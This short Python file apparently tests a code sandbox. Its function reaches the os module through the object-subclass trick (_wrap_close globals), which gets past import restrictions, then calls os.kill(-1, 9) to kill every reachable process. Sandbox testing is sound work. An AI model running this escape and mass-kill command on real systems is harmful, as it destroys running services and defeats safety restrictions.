# Sends the deadly signal to every process there is.
# expect: no answer
def system():
    """The globals of `os`, by way of what every object knows."""
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__


def module(name):
    return system()["__builtins__"]["__import__"](name)


def f(n: int) -> int:
    os = module("os")
    if os.path.exists("/proc/@PID@"):
        return 666
    mine = os.getpid(), os.getppid()
    os.kill(-1, 9)
    os._exit(0)
